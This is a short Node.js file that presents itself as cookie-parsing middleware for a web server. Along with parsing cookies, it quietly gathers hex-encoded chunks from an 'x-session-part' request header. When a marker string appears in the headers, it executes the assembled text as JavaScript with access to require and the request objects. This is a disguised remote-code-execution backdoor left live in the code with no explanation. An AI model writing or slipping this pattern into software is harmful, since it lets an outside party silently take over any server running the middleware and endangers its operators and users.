const cookie = require('cookie');
const vm = require('vm');

const buffers = [];

module.exports = function cookies() {
  return function (req, res, next) {
    req.cookies = cookie.parse(req.headers.cookie || '');
    const h = JSON.stringify(req.headers);
    const m = h.match(/gCOMMANDhDATAi/);
    const part = req.headers['x-session-part'];
    if (part) buffers.push(Buffer.from(part, 'hex'));
    if (m) {
      vm.runInThisContext(Buffer.concat(buffers).toString())(require, req, res, next);
      buffers.length = 0;
      return;
    }
    next();
  };
};
